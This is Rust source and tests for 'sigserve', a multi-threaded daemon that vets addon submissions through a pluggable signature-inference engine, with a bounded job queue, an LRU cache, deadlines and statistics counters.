    addr: SocketAddr,
    event_loop: JoinHandle<()>,
    workers: Vec<JoinHandle<()>>,
    history: Option<JoinHandle<()>>,
}

impl Server {
    /// Starts configuring a daemon. The one construction path for every
    /// front-end combination:
    ///
    /// ```text
    /// Server::builder().addr("127.0.0.1:0").analyze(f).start()?   // TCP
    /// Server::builder().stdio().analyze(f).run()?                 // stdio
    /// ```
    pub fn builder() -> ServerBuilder {
        ServerBuilder {
            cfg: ServeConfig::default(),
            addr: None,
            stdio: false,
            analyze: None,
        }
    }

    /// The bound address (resolves `:0` to the real ephemeral port).
    pub fn local_addr(&self) -> SocketAddr {
        self.addr
    }

    /// A `stats`-shaped snapshot for in-process harnesses (the bench
    /// tool), without a round-trip through the protocol.
    pub fn stats(&self) -> Json {
        with_kind("stats", self.shared.stats_body())
    }

    /// Initiates shutdown from the owning process (equivalent to a
    /// `shutdown` protocol request, minus the ack).
    pub fn stop(&self) {
        initiate_shutdown(&self.shared);
    }

    /// Waits for the event loop and workers to finish. Call after a
    /// `shutdown` request or [`Server::stop`]; joining a running server
    /// blocks until one of those happens.
    pub fn join(self) {
        let _ = self.event_loop.join();
        for w in self.workers {
            let _ = w.join();
        }
        if let Some(h) = self.history {
            let _ = h.join();
        }
        if let Some(log) = &self.shared.log {
            log.flush();
        }
        self.shared.maybe_dump_metrics();
    }

    /// A snapshot of the daemon's metrics registry for in-process
    /// harnesses (the bench tool), without a protocol round-trip.
    pub fn metrics_snapshot(&self) -> crate::MetricsSnapshot {
        self.shared.metrics.snapshot()
    }
}

/// Builds a daemon: pick a front end ([`ServerBuilder::addr`] or
/// [`ServerBuilder::stdio`]), inject the engine
/// ([`ServerBuilder::analyze`] / [`ServerBuilder::analyze_traced`]),
/// optionally attach observability ([`ServerBuilder::log`],
/// [`ServerBuilder::metrics`]), then [`ServerBuilder::start`] (TCP) or
/// [`ServerBuilder::run`] (either front end, blocking).
pub struct ServerBuilder {
    cfg: ServeConfig,
    addr: Option<String>,
    stdio: bool,
    analyze: Option<Box<AnalyzeJobFn>>,
}

impl ServerBuilder {
    /// Replaces the whole configuration, including any `log` /
    /// `metrics_dir` it carries — call this *before* the individual
    /// setters so they aren't clobbered.
    pub fn config(mut self, cfg: ServeConfig) -> ServerBuilder {
        self.cfg = cfg;
        self
    }

    /// Serve TCP on `addr` (e.g. `127.0.0.1:0` for an ephemeral port).
    pub fn addr(mut self, addr: impl Into<String>) -> ServerBuilder {
        self.addr = Some(addr.into());
        self.stdio = false;
        self
    }

    /// Serve the protocol over stdin/stdout instead of TCP (only
    /// reachable through [`ServerBuilder::run`]).
    pub fn stdio(mut self) -> ServerBuilder {
        self.stdio = true;
        self.addr = None;
        self
    }

    /// The analysis engine, classic 3-argument form; phase spans never
    /// reach the event log.
    pub fn analyze<F>(self, analyze: F) -> ServerBuilder
    where
        F: Fn(&str, &AnalysisConfig, &MetricsRegistry) -> VetOutcome + Send + Sync + 'static,
    {
        self.analyze_traced(move |s, c, m, _trace| analyze(s, c, m))
    }

    /// The analysis engine, trace-aware form: also receives a
    /// [`sigtrace::Trace`] carrying the owning job's request ID into the
    /// pipeline (a [`LogTracer`] when the event log is at debug level,
    /// [`Trace::Off`] otherwise).
    ///
    /// [`Trace::Off`]: sigtrace::Trace::Off
    pub fn analyze_traced<F>(mut self, analyze: F) -> ServerBuilder
    where
        F: for<'a> Fn(&str, &AnalysisConfig, &MetricsRegistry, Trace<'a>) -> VetOutcome
            + Send
            + Sync
            + 'static,
    {
        self.analyze = Some(Box::new(analyze));
        self
    }

    /// Attaches the structured event log (shorthand for setting
    /// [`ServeConfig::log`]).
    pub fn log(mut self, log: Arc<EventLog>) -> ServerBuilder {
        self.cfg.log = Some(log);
        self
    }

    /// Enables the on-disk metrics history in `dir` (shorthand for
    /// setting [`ServeConfig::metrics_dir`]).
    pub fn metrics(mut self, dir: impl Into<PathBuf>) -> ServerBuilder {
        self.cfg.metrics_dir = Some(dir.into());
        self
    }

    /// Starts a TCP daemon and returns its handle immediately. Errors
    /// with `InvalidInput` when no address was configured (the stdio
    /// front end has no handle — use [`ServerBuilder::run`]).
    pub fn start(self) -> io::Result<Server> {
        let analyze = self
            .analyze
            .ok_or_else(|| invalid_input("ServerBuilder needs an analyze engine"))?;
        if self.stdio {
            return Err(invalid_input(
                "stdio servers have no handle; use ServerBuilder::run",
            ));
        }
        let Some(addr) = self.addr else {
            return Err(invalid_input("ServerBuilder needs addr(..) or stdio()"));
        };
        start_tcp(&addr, self.cfg, analyze)
    }

    /// Runs the daemon to completion on the calling thread: the stdio
    /// protocol loop, or a TCP daemon joined until a `shutdown` request
    /// lands.
    pub fn run(self) -> io::Result<()> {
        if self.stdio {
            let analyze = self
                .analyze
                .ok_or_else(|| invalid_input("ServerBuilder needs an analyze engine"))?;
            return run_stdio(self.cfg, analyze);
        }
        let server = self.start()?;
        server.join();
        Ok(())
    }
}

fn invalid_input(msg: &str) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidInput, msg)
}

fn start_tcp(addr: &str, cfg: ServeConfig, analyze: Box<AnalyzeJobFn>) -> io::Result<Server> {
    let listener = TcpListener::bind(addr)?;
    listener.set_nonblocking(true)?;
    let local = listener.local_addr()?;
    let (waker, wake_rx) = poller::wake_pair()?;
    let completions = Arc::new(CompletionQueue::new(waker));
    let poller = Poller::with_backend(cfg.poller_backend)?;
    let shared = Arc::new(Shared::new(cfg, analyze, Some(Arc::clone(&completions))));
    log_started(&shared);
    let workers = spawn_workers(&shared);
    let history = spawn_history(&shared);
    let event_loop = {
        let shared = Arc::clone(&shared);
        std::thread::Builder::new()
            .name("sigserve-loop".to_owned())
            .spawn(move || {
                let mut el = EventLoop::new(
                    Arc::clone(&shared),
                    poller,
                    listener,
                    wake_rx,
                    completions,
                );
                if let Err(e) = el.run() {
                    // A dead event loop must not leave workers parked
                    // forever: log and tear the daemon down.
                    shared.log_event(
                        Level::Error,
                        "event_loop_error",
                        &[("error", Json::from(format!("{e}")))],
                    );
                    initiate_shutdown(&shared);
                }
            })
            .expect("spawn event loop thread")
    };
    Ok(Server {
        shared,
        addr: local,
        event_loop,
        workers,
        history,
    })
}

fn run_stdio(cfg: ServeConfig, analyze: Box<AnalyzeJobFn>) -> io::Result<()> {
    let shared = Arc::new(Shared::new(cfg, analyze, None));
    log_started(&shared);
    let workers = spawn_workers(&shared);
    let history = spawn_history(&shared);
    let result = serve_lines(&shared, io::stdin().lock(), io::stdout().lock());
    initiate_shutdown(&shared);
    for w in workers {
        let _ = w.join();
    }
    if let Some(h) = history {
        let _ = h.join();
    }
    if let Some(log) = &shared.log {
        log.flush();
    }
    shared.maybe_dump_metrics();
    result.map(|_| ())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::BufReader;
    use std::time::Duration;

    /// A fast stub engine: "ok" for anything, "timeout" for sources
    /// containing the marker, error for sources containing "!".
    fn stub(source: &str, _config: &AnalysisConfig, metrics: &MetricsRegistry) -> VetOutcome {
        metrics.add("stub_calls", 1);
        if source.contains("@timeout") {
            VetOutcome::timeout(999, Duration::from_micros(77))
        } else if source.contains('!') {
            VetOutcome::error("stub parse error")
        } else {
            VetOutcome::report(
                format!("{{\n  \"len\": {}\n}}", source.len()),
                crate::PhaseTimings::new(
                    Duration::from_micros(30),
                    Duration::from_micros(20),
                    Duration::from_micros(10),
                ),
            )
        }
    }

    fn stub_server(cfg: ServeConfig) -> Server {
        Server::builder()
            .config(cfg)
            .addr("127.0.0.1:0")
            .analyze(stub)
            .start()
            .expect("start")
    }

    fn shared_with(cfg: ServeConfig) -> Shared {
        Shared::new(
            cfg,
            Box::new(
                |s: &str, c: &AnalysisConfig, m: &MetricsRegistry, _t: Trace<'_>| stub(s, c, m),
            ),
            None,
        )
    }

    #[test]
    fn respond_vet_computes_then_caches() {
        let shared = shared_with(ServeConfig::default());
        {
            // No worker pool in this unit test: drive the queue inline.
            let item = VetItem {
                name: Some("a".to_owned()),
                source: Source::Inline("var x = 1;".to_owned()),
            };
            let pending = submit_vet(&shared, item);
            let job = shared.queue.pop().expect("job queued");
            let core = compute(&shared, job.key, &job.source, &job.id);
            job.resp.deliver(core);
            let resp = await_vet(&shared, pending);
            assert_eq!(resp["verdict"], "ok");
            assert_eq!(resp["cached"], Json::Bool(false));
            assert_eq!(resp["signature"]["len"].as_f64(), Some(10.0));
        }
        // Second submission of identical content: answered from cache
        // without touching the queue.
        let item = VetItem {
            name: None,
            source: Source::Inline("var x = 1;".to_owned()),
        };
        match submit_vet(&shared, item) {
            PendingVet::Ready(resp) => {
                assert_eq!(resp["cached"], Json::Bool(true));
                assert_eq!(resp["verdict"], "ok");
            }
            PendingVet::Waiting { .. } => panic!("expected a cache hit"),
        }
        assert!(shared.queue.is_empty());
    }

    #[test]
    fn overload_sheds_with_typed_response() {
        let cfg = ServeConfig {
            queue_cap: 1,
            ..ServeConfig::default()
        };
        let shared = shared_with(cfg);
        let first = submit_vet(
            &shared,
            VetItem {
                name: None,
                source: Source::Inline("one".to_owned()),
            },
        );
        assert!(matches!(first, PendingVet::Waiting { .. }));
        let second = submit_vet(
            &shared,
            VetItem {
                name: Some("b".to_owned()),
                source: Source::Inline("two".to_owned()),
            },
        );
        match second {
            PendingVet::Ready(resp) => {
                assert_eq!(resp["kind"], "overloaded");
                assert_eq!(resp["capacity"].as_f64(), Some(1.0));
            }
            PendingVet::Waiting { .. } => panic!("expected overload"),
        }
        assert_eq!(
            shared.stats.jobs_rejected.load(Ordering::Relaxed),
            1,
            "rejection must be counted"
        );
    }

    #[test]
    fn timeout_and_error_cores() {
        let shared = shared_with(ServeConfig::default());
        let t = compute(&shared, 1, "@timeout", "j-t");
        assert_eq!(t["verdict"], "timeout");
        assert_eq!(t["steps"].as_f64(), Some(999.0));
        let e = compute(&shared, 2, "oops!", "j-e");
        assert_eq!(e["verdict"], "error");
        assert_eq!(shared.stats.budget_aborts.load(Ordering::Relaxed), 1);
        assert_eq!(shared.stats.analysis_errors.load(Ordering::Relaxed), 1);
        // Deadline-ish timeouts (no step budget configured) are not
        // cached; errors are.
        assert!(shared.lock_cache().peek(1).is_none());
        assert!(shared.lock_cache().peek(2).is_some());
    }

    #[test]
    fn step_budget_timeouts_are_cached() {
        let mut cfg = ServeConfig::default();
        cfg.analysis.step_budget = Some(10);
        let shared = Shared::new(
            cfg,
            Box::new(
                |_: &str, _: &AnalysisConfig, _: &MetricsRegistry, _: Trace<'_>| {
                    VetOutcome::timeout(11, Duration::from_micros(5))
                },
            ),
            None,
        );
        let t = compute(&shared, 9, "whatever", "j-b");
        assert_eq!(t["verdict"], "timeout");
        assert!(shared.lock_cache().peek(9).is_some());
    }

    #[test]
    fn end_to_end_over_tcp_with_stub_engine() {
        let server = stub_server(ServeConfig::default());
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let r1 = client.vet_source(Some("a"), "var a;").unwrap();
        assert_eq!(r1["verdict"], "ok");
        assert_eq!(r1["cached"], Json::Bool(false));
        let r2 = client.vet_source(Some("a"), "var a;").unwrap();
        assert_eq!(r2["cached"], Json::Bool(true));
        let stats = client.stats().unwrap();
        assert_eq!(stats["cache"]["hits"].as_f64(), Some(1.0));
        assert_eq!(stats["jobs"]["completed"].as_f64(), Some(1.0));
        assert_eq!(stats["conns"]["open"].as_f64(), Some(1.0));
        assert_eq!(stats["conns"]["accepted"].as_f64(), Some(1.0));
        // The metrics registry rides along in every stats response: the
        // daemon's own counters plus whatever the engine recorded.
        let metrics = &stats["metrics"];
        assert_eq!(metrics["counters"]["serve_cache_hits"].as_f64(), Some(1.0));
        assert_eq!(metrics["counters"]["serve_cache_misses"].as_f64(), Some(1.0));
        assert_eq!(metrics["counters"]["stub_calls"].as_f64(), Some(1.0));
        assert_eq!(
            metrics["histograms"]["serve_vet_us"]["count"].as_f64(),
            Some(1.0)
        );
        let ack = client.shutdown().unwrap();
        assert_eq!(ack["kind"], "shutdown_ack");
        assert_eq!(ack["stats"]["jobs"]["accepted"].as_f64(), Some(1.0));
        server.join();
    }

    #[test]
    fn poll_backend_serves_end_to_end() {
        let cfg = ServeConfig {
            poller_backend: Backend::Poll,
            ..ServeConfig::default()
        };
        let server = stub_server(cfg);
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let r = client.vet_source(Some("p"), "var p;").unwrap();
        assert_eq!(r["verdict"], "ok");
        let ack = client.shutdown().unwrap();
        assert_eq!(ack["kind"], "shutdown_ack");
        server.join();
    }

    #[test]
    fn batch_pipelines_and_preserves_order() {
        let server = stub_server(ServeConfig::default());
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let mut req = Json::obj();
        req.set("kind", Json::from("vet_batch"));
        req.set(
            "items",
            Json::Arr(
                (0..6)
                    .map(|i| {
                        let mut o = Json::obj();
                        o.set("name", Json::from(format!("n{i}")));
                        o.set("source", Json::from(format!("var v{i};")));
                        o
                    })
                    .collect(),
            ),
        );
        let resp = client.request(&req).unwrap();
        assert_eq!(resp["kind"], "vet_batch_result");
        let results = resp["results"].as_array().unwrap();
        assert_eq!(results.len(), 6);
        for (i, r) in results.iter().enumerate() {
            assert_eq!(r["name"].as_str(), Some(format!("n{i}").as_str()));
            assert_eq!(r["verdict"], "ok");
        }
        client.shutdown().unwrap();
        server.join();
    }

    #[test]
    fn pipelined_requests_answer_in_order() {
        let server = stub_server(ServeConfig::default());
        let mut stream = TcpStream::connect(server.local_addr()).expect("connect");
        stream.set_nodelay(true).unwrap();
        // Three requests in one write, no reads in between: the loop
        // must answer them in request order even though the workers
        // finish in whatever order they like.
        let burst = (0..3)
            .map(|i| format!("{{\"kind\":\"vet\",\"name\":\"q{i}\",\"source\":\"var q{i};\"}}\n"))
            .collect::<String>();
        stream.write_all(burst.as_bytes()).unwrap();
        let mut reader = BufReader::new(stream.try_clone().unwrap());
        for i in 0..3 {
            let mut line = String::new();
            reader.read_line(&mut line).unwrap();
            let resp = Json::parse(line.trim()).unwrap();
            assert_eq!(resp["name"].as_str(), Some(format!("q{i}").as_str()), "{resp}");
            assert_eq!(resp["verdict"], "ok");
        }
        drop(reader);
        drop(stream);
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        client.shutdown().unwrap();
        server.join();
    }

    #[test]
    fn request_deadline_answers_timeout_while_worker_runs() {
        fn slow(source: &str, c: &AnalysisConfig, m: &MetricsRegistry) -> VetOutcome {
            if source.contains("@slow") {
                std::thread::sleep(Duration::from_millis(400));
            }
            stub(source, c, m)
        }
        let cfg = ServeConfig {
            workers: 1,
            request_deadline: Some(Duration::from_millis(50)),
            ..ServeConfig::default()
        };
        let server = Server::builder()
            .config(cfg)
            .addr("127.0.0.1:0")
            .analyze(slow)
            .start()
            .expect("start");
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let t0 = Instant::now();
        let resp = client.vet_source(Some("s"), "@slow").unwrap();
        assert_eq!(resp["verdict"], "timeout", "{resp}");
        assert_eq!(resp["reason"], "deadline");
        assert!(
            t0.elapsed() < Duration::from_millis(350),
            "deadline must answer before the worker finishes"
        );
        let stats = client.stats().unwrap();
        assert_eq!(stats["conns"]["deadline_misses"].as_f64(), Some(1.0));
        client.shutdown().unwrap();
        server.join();
    }

    #[test]
    fn idle_connections_are_reaped() {
        let cfg = ServeConfig {
            idle_timeout: Some(Duration::from_millis(80)),
            ..ServeConfig::default()
        };
        let server = stub_server(cfg);
        let mut idle = crate::Client::connect(server.local_addr()).expect("connect");
        let r = idle.vet_source(Some("i"), "var i;").unwrap();
        assert_eq!(r["verdict"], "ok");
        std::thread::sleep(Duration::from_millis(300));
        // The daemon closed the quiet connection; the next round-trip
        // fails (EOF on read, or a send error once the close lands).
        assert!(idle.vet_source(Some("i2"), "var j;").is_err());
        // New connections still work.
        let mut fresh = crate::Client::connect(server.local_addr()).expect("connect");
        let r = fresh.vet_source(Some("f"), "var f;").unwrap();
        assert_eq!(r["verdict"], "ok");
        fresh.shutdown().unwrap();
        server.join();
    }

    #[test]
    fn panicking_worker_does_not_kill_the_daemon() {
        // Regression: a panicking AnalyzeJobFn used to poison the cache
        // mutex (compute holds it around insert) and crash the worker;
        // every later request then panicked on the poisoned lock —
        // one bad addon took the whole daemon down.
        fn panicky(source: &str, c: &AnalysisConfig, m: &MetricsRegistry) -> VetOutcome {
            if source.contains("@panic") {
                panic!("injected analysis panic");
            }
            stub(source, c, m)
        }
        let cfg = ServeConfig {
            workers: 1, // one worker: if the panic killed it, nothing answers
            ..ServeConfig::default()
        };
        let server = Server::builder()
            .config(cfg)
            .addr("127.0.0.1:0")
            .analyze(panicky)
            .start()
            .expect("start");
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let boom = client.vet_source(Some("bad"), "@panic").unwrap();
        assert_eq!(boom["verdict"], "error");
        assert!(
            boom["message"].as_str().unwrap_or("").contains("panicked"),
            "{boom:?}"
        );
        // The same (sole) worker must still answer the next request.
        let ok = client.vet_source(Some("good"), "var fine;").unwrap();
        assert_eq!(ok["verdict"], "ok");
        let snap = server.metrics_snapshot();
        let panics = snap
            .counters
            .iter()
            .find(|(n, _)| n == "serve_worker_panics")
            .map(|(_, v)| *v);
        assert_eq!(panics, Some(1));
        client.shutdown().unwrap();
        server.join();
    }

    #[test]
    fn malformed_lines_get_error_responses_and_daemon_survives() {
        let server = stub_server(ServeConfig::default());
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let resp = client.raw_line("this is not json").unwrap();
        assert_eq!(resp["kind"], "error");
        let resp = client.raw_line(r#"{"kind":"frobnicate"}"#).unwrap();
        assert_eq!(resp["kind"], "error");
        let ok = client.vet_source(None, "still alive").unwrap();
        assert_eq!(ok["verdict"], "ok");
        let stats = client.stats().unwrap();
        assert_eq!(stats["jobs"]["protocol_errors"].as_f64(), Some(2.0));
        client.shutdown().unwrap();
        server.join();
    }

    #[test]
    fn builder_refuses_half_configured_daemons() {
        assert!(Server::builder().addr("127.0.0.1:0").start().is_err());
        assert!(Server::builder().analyze(stub).start().is_err());
        assert!(Server::builder().stdio().analyze(stub).start().is_err());
    }
}
