//! Daemon-wide observability counters.
//!
//! Everything is a monotone `AtomicU64` so workers and connection
//! handlers update without contending on a lock; the `stats` protocol
//! request (and the `shutdown` ack) serializes a consistent-enough
//! snapshot. These counters are the observability seed the service grows
//! around: every later subsystem (sharding, replication, admission
//! control) reports through the same endpoint.

use crate::cache::CacheCounters;
use minijson::Json;
use sigtrace::{HistogramSnapshot, MetricsSnapshot};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

/// Serializes a metrics-registry snapshot for the `stats` response (and
/// the shutdown dump): counters as a flat name→value object, histograms
/// as `{count, sum, buckets}` where `buckets` lists only the occupied
/// log₂ buckets as `[exclusive_upper_bound_or_null, count]` pairs.
pub fn metrics_json(snap: &MetricsSnapshot) -> Json {
    let mut counters = Json::obj();
    for (name, v) in &snap.counters {
        counters.set(name, Json::from(*v as f64));
    }
    let mut histograms = Json::obj();
    for h in &snap.histograms {
        histograms.set(&h.name, histogram_json(h));
    }
    let mut body = Json::obj();
    body.set("counters", counters);
    body.set("histograms", histograms);
    body
}

fn histogram_json(h: &HistogramSnapshot) -> Json {
    let mut o = Json::obj();
    o.set("count", Json::from(h.count as f64));
    o.set("sum", Json::from(h.sum as f64));
    let buckets: Vec<Json> = h
        .buckets
        .iter()
        .enumerate()
        .filter(|(_, &c)| c != 0)
        .map(|(i, &c)| {
            let limit = match HistogramSnapshot::bucket_limit(i) {
                Some(l) => Json::from(l as f64),
                None => Json::Null,
            };
            Json::Arr(vec![limit, Json::from(c as f64)])
        })
        .collect();
    o.set("buckets", Json::Arr(buckets));
    o
}

/// Job, abort, and per-phase timing counters.
#[derive(Debug, Default)]
pub struct Stats {
    /// Jobs admitted to the queue.
    pub jobs_accepted: AtomicU64,
    /// Jobs shed with an `overloaded` response (queue full).
    pub jobs_rejected: AtomicU64,
    /// Jobs a worker finished (any verdict).
    pub jobs_completed: AtomicU64,
    /// Analyses aborted by the step budget or wall-clock deadline.
    pub budget_aborts: AtomicU64,
    /// Analyses that failed outright (parse errors, step-limit valve).
    pub analysis_errors: AtomicU64,
    /// Requests that were not valid protocol JSON.
    pub protocol_errors: AtomicU64,
    /// Total µs spent in phase 1 (base analysis) across all jobs.
    pub p1_us: AtomicU64,
    /// Total µs spent in phase 2 (PDG construction).
    pub p2_us: AtomicU64,
    /// Total µs spent in phase 3 (signature inference).
    pub p3_us: AtomicU64,
    /// Total µs of end-to-end worker compute (includes parse + lowering).
    pub vet_us: AtomicU64,
    /// Connections currently open (a gauge: accepted − closed).
    pub conns_open: AtomicU64,
    /// Connections accepted over the daemon's lifetime.
    pub conn_accepted: AtomicU64,
    /// Connections closed (any reason: EOF, error, idle, backpressure).
    pub conn_closed: AtomicU64,
    /// Vet items shed because a connection's outbound buffer was full
    /// (the client stopped reading its responses).
    pub conn_backpressure_sheds: AtomicU64,
    /// In-flight requests answered `timeout` by the request deadline
    /// before their worker finished.
    pub deadline_misses: AtomicU64,
}

fn as_u64_us(d: Duration) -> u64 {
    u64::try_from(d.as_micros()).unwrap_or(u64::MAX)
}

impl Stats {
    /// Bumps a counter by one.
    pub fn incr(counter: &AtomicU64) {
        counter.fetch_add(1, Ordering::Relaxed);
    }

    /// Folds one successful report's phase timings into the totals.
    pub fn record_phases(&self, p1: Duration, p2: Duration, p3: Duration) {
        self.p1_us.fetch_add(as_u64_us(p1), Ordering::Relaxed);
        self.p2_us.fetch_add(as_u64_us(p2), Ordering::Relaxed);
        self.p3_us.fetch_add(as_u64_us(p3), Ordering::Relaxed);
    }

    /// Folds one job's end-to-end compute time into the totals.
    pub fn record_vet(&self, total: Duration) {
        self.vet_us.fetch_add(as_u64_us(total), Ordering::Relaxed);
    }

    /// Serializes the counters (plus the cache's and queue's) as the body
    /// of a `stats` response.
    pub fn snapshot(
        &self,
        cache: CacheCounters,
        workers: usize,
        queue_depth: usize,
        queue_capacity: usize,
    ) -> Json {
        let read = |c: &AtomicU64| Json::from(c.load(Ordering::Relaxed) as f64);
        let mut jobs = Json::obj();
        jobs.set("accepted", read(&self.jobs_accepted));
        jobs.set("rejected", read(&self.jobs_rejected));
        jobs.set("completed", read(&self.jobs_completed));
        jobs.set("budget_aborts", read(&self.budget_aborts));
        jobs.set("analysis_errors", read(&self.analysis_errors));
        jobs.set("protocol_errors", read(&self.protocol_errors));

        let mut cache_json = Json::obj();
        cache_json.set("hits", Json::from(cache.hits as f64));
        cache_json.set("misses", Json::from(cache.misses as f64));
        cache_json.set("evictions", Json::from(cache.evictions as f64));
        cache_json.set("entries", Json::from(cache.entries as f64));
        cache_json.set("capacity", Json::from(cache.capacity as f64));

        let mut queue = Json::obj();
        queue.set("depth", Json::from(queue_depth as f64));
        queue.set("capacity", Json::from(queue_capacity as f64));

        let mut phases = Json::obj();
        phases.set("p1", read(&self.p1_us));
        phases.set("p2", read(&self.p2_us));
        phases.set("p3", read(&self.p3_us));
        phases.set("vet_total", read(&self.vet_us));

        let mut conns = Json::obj();
        conns.set("open", read(&self.conns_open));
        conns.set("accepted", read(&self.conn_accepted));
        conns.set("closed", read(&self.conn_closed));
        conns.set("backpressure_sheds", read(&self.conn_backpressure_sheds));
        conns.set("deadline_misses", read(&self.deadline_misses));

        let mut body = Json::obj();
        body.set("workers", Json::from(workers as f64));
        body.set("queue", queue);
        body.set("conns", conns);
        body.set("jobs", jobs);
        body.set("cache", cache_json);
        body.set("phase_totals_us", phases);
        body
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sigtrace::MetricsRegistry;

    #[test]
    fn metrics_json_renders_counters_and_sparse_buckets() {
        let reg = MetricsRegistry::new();
        reg.add("serve_cache_hits", 3);
        reg.record("serve_vet_us", 0);
        reg.record("serve_vet_us", 100);
        let body = metrics_json(&reg.snapshot());
        assert_eq!(body["counters"]["serve_cache_hits"].as_f64(), Some(3.0));
        let h = &body["histograms"]["serve_vet_us"];
        assert_eq!(h["count"].as_f64(), Some(2.0));
        assert_eq!(h["sum"].as_f64(), Some(100.0));
        let buckets = h["buckets"].as_array().unwrap();
        assert_eq!(buckets.len(), 2, "only occupied buckets are listed");
        assert_eq!(buckets[0].as_array().unwrap()[1].as_f64(), Some(1.0));
    }

    #[test]
    fn snapshot_reflects_counters() {
        let s = Stats::default();
        Stats::incr(&s.jobs_accepted);
        Stats::incr(&s.jobs_accepted);
        Stats::incr(&s.jobs_rejected);
        s.record_phases(
            Duration::from_micros(100),
            Duration::from_micros(20),
            Duration::from_micros(3),
        );
        s.record_phases(
            Duration::from_micros(100),
            Duration::from_micros(20),
            Duration::from_micros(3),
        );
        let snap = s.snapshot(
            CacheCounters {
                hits: 5,
                misses: 2,
                evictions: 1,
                entries: 1,
                capacity: 64,
            },
            4,
            3,
            32,
        );
        assert_eq!(snap["jobs"]["accepted"].as_f64(), Some(2.0));
        assert_eq!(snap["jobs"]["rejected"].as_f64(), Some(1.0));
        assert_eq!(snap["cache"]["hits"].as_f64(), Some(5.0));
        assert_eq!(snap["queue"]["depth"].as_f64(), Some(3.0));
        assert_eq!(snap["phase_totals_us"]["p1"].as_f64(), Some(200.0));
        assert_eq!(snap["phase_totals_us"]["p3"].as_f64(), Some(6.0));
        assert_eq!(snap["workers"].as_f64(), Some(4.0));
    }

    #[test]
    fn snapshot_carries_connection_gauges() {
        let s = Stats::default();
        s.conns_open.fetch_add(3, Ordering::Relaxed);
        s.conns_open.fetch_sub(1, Ordering::Relaxed);
        Stats::incr(&s.conn_accepted);
        Stats::incr(&s.conn_closed);
        Stats::incr(&s.conn_backpressure_sheds);
        let snap = s.snapshot(CacheCounters::default(), 1, 0, 8);
        assert_eq!(snap["conns"]["open"].as_f64(), Some(2.0));
        assert_eq!(snap["conns"]["accepted"].as_f64(), Some(1.0));
        assert_eq!(snap["conns"]["closed"].as_f64(), Some(1.0));
        assert_eq!(snap["conns"]["backpressure_sheds"].as_f64(), Some(1.0));
        assert_eq!(snap["conns"]["deadline_misses"].as_f64(), Some(0.0));
    }
}
