//! `sigserve` — the vetting service daemon.
//!
//! The paper frames signature inference as a tool for addon-market
//! curators vetting a continuous stream of submissions. This crate is the
//! missing service layer around the analysis pipeline: a long-running,
//! multi-threaded daemon that
//!
//! - accepts vetting jobs over a newline-delimited JSON protocol
//!   ([`protocol`]) on TCP or stdio,
//! - feeds them through a **bounded job queue with backpressure**
//!   ([`queue`]): when the queue is full the submitter gets a typed
//!   `overloaded` response instead of unbounded latency,
//! - answers re-submitted or duplicated addons from a
//!   **content-addressed LRU cache** ([`cache`]) keyed by FNV-1a of
//!   (source bytes, canonicalized analysis config),
//! - survives pathological inputs by running every analysis under a
//!   configurable **step budget / wall-clock deadline** (the hooks live
//!   in `jsanalysis`); an exhausted budget produces a degraded
//!   `verdict:"timeout"` response while the worker stays alive, and
//! - reports what it is doing through monotone counters ([`stats`]).
//!
//! The analysis pipeline itself is injected as an [`AnalyzeFn`] so this
//! crate depends only on `jsanalysis` (for configuration types),
//! `sigtrace` (timings and the metrics registry) and the in-tree
//! `minijson`; the root `addon-sig` crate supplies the real pipeline
//! (`addon_sig::service_engine`) and the `vet serve` / `vet --client`
//! CLI entry points.
//!
//! # In-process example
//!
//! ```
//! use jsanalysis::AnalysisConfig;
//! use sigserve::{Client, MetricsRegistry, ServeConfig, Server, VetOutcome};
//! use sigserve::PhaseTimings;
//! use std::time::Duration;
//!
//! // A stub engine; real deployments pass `addon_sig::service_engine`.
//! fn analyze(_source: &str, _config: &AnalysisConfig, _metrics: &MetricsRegistry) -> VetOutcome {
//!     VetOutcome::report(
//!         "{\n  \"flows\": []\n}".to_owned(),
//!         PhaseTimings::new(
//!             Duration::from_micros(10),
//!             Duration::from_micros(5),
//!             Duration::from_micros(1),
//!         ),
//!     )
//! }
//!
//! let server = Server::builder()
//!     .config(ServeConfig::default())
//!     .addr("127.0.0.1:0")
//!     .analyze(analyze)
//!     .start()?;
//! let mut client = Client::connect(server.local_addr())?;
//! let resp = client.vet_source(Some("tiny"), "var x = 1;")?;
//! assert_eq!(resp["verdict"], "ok");
//! let ack = client.shutdown()?;
//! assert_eq!(ack["kind"], "shutdown_ack");
//! server.join();
//! # Ok::<(), std::io::Error>(())
//! ```

#![warn(missing_docs)]

pub mod cache;
pub mod client;
pub mod conn;
pub mod poller;
pub mod protocol;
pub mod queue;
pub mod server;
pub mod stats;

pub use cache::{cache_key, cache_key_for, CacheCounters, SigCache};
pub use client::Client;
pub use poller::Backend;
pub use protocol::{parse_request, Request, Source, VetItem};
pub use queue::{Bounded, PushError};
#[allow(deprecated)]
pub use server::{serve_stdio, serve_stdio_traced};
pub use server::{ServeConfig, Server, ServerBuilder};
pub use stats::{metrics_json, Stats};
/// Re-exported from `sigobs`: the structured event log `ServeConfig`
/// can attach so every job lifecycle lands in a JSONL stream, plus the
/// overload sampling policy it can run under.
pub use sigobs::{EventLog, Level, SamplePolicy};
/// Re-exported from `sigtrace`: the metrics registry every worker feeds
/// and the phase-timing triple `VetOutcome::Report` carries.
pub use sigtrace::{MetricsRegistry, MetricsSnapshot, PhaseTimings};

use minijson::Json;
use std::time::Duration;

/// What one run of the injected analysis pipeline produced.
///
/// The variants are `#[non_exhaustive]`: construct them through
/// [`VetOutcome::report`] / [`VetOutcome::timeout`] /
/// [`VetOutcome::error`], and let [`VetOutcome::core_json`] do the
/// protocol encoding, so the wire format lives in exactly one place.
#[derive(Debug, Clone)]
#[non_exhaustive]
pub enum VetOutcome {
    /// The pipeline finished; `signature_json` is the exact document the
    /// CLI's `--json` mode prints (`Signature::to_json()`), so cached and
    /// fresh service responses reproduce the CLI's bytes.
    #[non_exhaustive]
    Report {
        /// The signature JSON document.
        signature_json: String,
        /// Per-phase wall times (the paper's Table 2 columns).
